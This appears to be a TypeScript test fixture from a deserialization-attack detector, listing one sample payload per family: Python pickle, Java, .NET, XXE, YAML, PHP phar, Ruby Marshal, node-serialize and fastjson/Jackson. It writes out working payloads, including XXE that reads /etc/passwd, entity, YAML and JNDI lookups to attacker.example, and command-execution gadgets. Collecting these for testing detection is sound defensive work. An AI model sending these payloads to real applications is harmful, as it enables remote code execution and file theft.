/**
 * One representative attack payload per technique family, for the carrier
 * matrix. Binary payloads come from the families' generated fixtures (real
 * pickle.dumps / ObjectOutputStream output, hand-built NRBF and ViewState from
 * the specs) or from the families' test writers (PHP serializer, phar
 * builder, Ruby Marshal writer); text payloads are written here in the
 * shape public tooling emits (ysoserial.net, PayloadsAllTheThings, phpggc).
 */
import { fixture as pickleFixture } from '../pickle/helpers.js';
import { stream as javaStream } from '../java/helpers.js';
import { fixture as dotnetFixture } from '../dotnet/helpers.js';
import { JSON_ATTACKS, XAML_ODP } from '../dotnet/text-payloads.js';
import { buildPhar, obj as phpObj, ser } from '../php/build.js';
import { monologRce1 } from '../php/chains.js';
import { dump, universalGadget } from '../ruby/build.js';

export type PayloadFamily = 'pickle' | 'java' | 'dotnet' | 'xxe' | 'yaml' | 'php' | 'ruby' | 'node' | 'jsonpoly';

export interface Payload {
  readonly id: string;
  readonly family: PayloadFamily;
  /** The bytes an application would deserialize. */
  readonly bytes: Uint8Array;
  /** True when the payload is not printable text (carried as base64 in text positions). */
  readonly binary: boolean;
  /** The honest media type of a body holding only this payload. */
  readonly contentType: string;
  /** File name for upload carriers. */
  readonly filename: string;
  /** An XML document (the XML charset carriers apply). */
  readonly xml?: boolean;
  /** A JSON document. */
  readonly json?: boolean;
}

const text = (s: string): Uint8Array => Buffer.from(s, 'utf8');
const latin1 = (s: string): Uint8Array => Buffer.from(s, 'latin1');

const bin = (id: string, family: PayloadFamily, bytes: Uint8Array, contentType: string, filename: string): Payload => ({
  id,
  family,
  bytes,
  binary: true,
  contentType,
  filename,
});

const txt = (id: string, family: PayloadFamily, s: string, contentType: string, filename: string, extra: Partial<Payload> = {}): Payload => ({
  id,
  family,
  bytes: text(s),
  binary: false,
  contentType,
  filename,
  ...extra,
});

const PHAR_METADATA = ser(phpObj('GuzzleHttp\\Cookie\\FileCookieJar', { filename: '/var/www/html/x.php', persist: true }));

export const ATTACKS: readonly Payload[] = [
  // Python pickle: __reduce__ -> os.system in protocols 0, 2, 4; STACK_GLOBAL operands through the memo (P1).
  bin('pickle-p0-reduce', 'pickle', pickleFixture('reduce_os_system_p0'), 'application/octet-stream', 'model.pkl'),
  bin('pickle-p2-reduce', 'pickle', pickleFixture('reduce_os_system_p2'), 'application/octet-stream', 'model.pkl'),
  bin('pickle-p4-reduce', 'pickle', pickleFixture('reduce_os_system_p4'), 'application/octet-stream', 'model.pkl'),
  bin('pickle-stack-global-memo', 'pickle', pickleFixture('p1_memo_indirection'), 'application/octet-stream', 'state.pkl'),
  // Java serialization: a CommonsCollections6-shaped gadget graph, and URLDNS (JDK classes only).
  bin('java-cc6', 'java', javaStream('cc6-like'), 'application/x-java-serialized-object', 'session.ser'),
  bin('java-urldns', 'java', javaStream('urldns'), 'application/x-java-serialized-object', 'session.ser'),
  // .NET: BinaryFormatter TypeConfuseDelegate, LosFormatter /wEy (BinaryFormatter inside ViewState),
  // Json.NET $type ObjectDataProvider, XAML ObjectDataProvider.
  bin('dotnet-nrbf-tcd', 'dotnet', dotnetFixture('nrbf_typeconfusedelegate'), 'application/octet-stream', 'state.bin'),
  bin('dotnet-viewstate-wey', 'dotnet', dotnetFixture('viewstate_binaryserialized'), 'application/octet-stream', 'viewstate.bin'),
  txt('dotnet-jsonnet-odp', 'dotnet', JSON_ATTACKS.jsonnet!, 'application/json', 'settings.json', { json: true }),
  txt('dotnet-xaml-odp', 'dotnet', XAML_ODP, 'application/xaml+xml', 'theme.xaml', { xml: true }),
  // XXE: SYSTEM entity, external DTD only (no ENTITY keyword), parameter entity to a remote DTD (OOB).
  txt('xxe-system-entity', 'xxe', '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE foo [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n<foo><name>&xxe;</name></foo>\n', 'application/xml', 'order.xml', { xml: true }),
  txt('xxe-external-dtd', 'xxe', '<?xml version="1.0"?>\n<!DOCTYPE order SYSTEM "http://attacker.example/evil.dtd">\n<order><qty>1</qty></order>\n', 'application/xml', 'order.xml', { xml: true }),
  txt('xxe-parameter-entity', 'xxe', '<?xml version="1.0" ?>\n<!DOCTYPE data [\n <!ENTITY % dtd SYSTEM "ftp://attacker.example/p.dtd">\n %dtd;\n %send;\n]>\n<data>4</data>\n', 'text/xml', 'data.xml', { xml: true }),
  // YAML: PyYAML object/apply, SnakeYAML ScriptEngineManager, Psych !ruby/object.
  txt('yaml-python-apply', 'yaml', 'job:\n  name: nightly\n  run: !!python/object/apply:os.system ["id"]\n', 'application/yaml', 'config.yaml'),
  txt('yaml-snakeyaml-sem', 'yaml', '!!javax.script.ScriptEngineManager [\n  !!java.net.URLClassLoader [[\n    !!java.net.URL ["http://attacker.example/"]\n  ]]\n]\n', 'application/yaml', 'config.yml'),
  txt('yaml-ruby-object', 'yaml', '--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::DependencyList\n  specs:\n  - !ruby/object:Gem::Source::SpecificFile\n    spec: &1 !ruby/object:Gem::StubSpecification\n      loaded_from: "|id 1>&2"\n', 'application/x-yaml', 'gem.yml'),
  // PHP: a Monolog gadget object, and a phar whose metadata is a serialized object.
  txt('php-object-gadget', 'php', monologRce1, 'application/x-php-serialized', 'cache.txt'),
  bin('php-phar', 'php', latin1(buildPhar({ metadata: PHAR_METADATA })), 'application/octet-stream', 'avatar.phar'),
  // Ruby Marshal: the universal RubyGems gadget.
  bin('ruby-marshal-gadget', 'ruby', dump(universalGadget), 'application/octet-stream', 'session.bin'),
  // node-serialize IIFE.
  txt('node-serialize-iife', 'node', `{"username":"admin","rce":"_$$ND_FUNC$$_function(){require('child_process').exec('id', function(e, out){ console.log(out) });}()"}`, 'application/json', 'profile.json', { json: true }),
  // fastjson @type autotype, Jackson default-typing wrapper array.
  txt('jsonpoly-fastjson-type', 'jsonpoly', '{"user":"alice","profile":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://attacker.example:1389/Exploit","autoCommit":true}}', 'application/json', 'profile.json', { json: true }),
  txt('jsonpoly-jackson-array', 'jsonpoly', '{"id":7,"obj":["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://attacker.example:1389/Exploit","autoCommit":true}]}', 'application/json', 'order.json', { json: true }),
];

export function payload(id: string): Payload {
  const p = ATTACKS.find((a) => a.id === id);
  if (!p) throw new Error(`no payload ${id}`);
  return p;
}
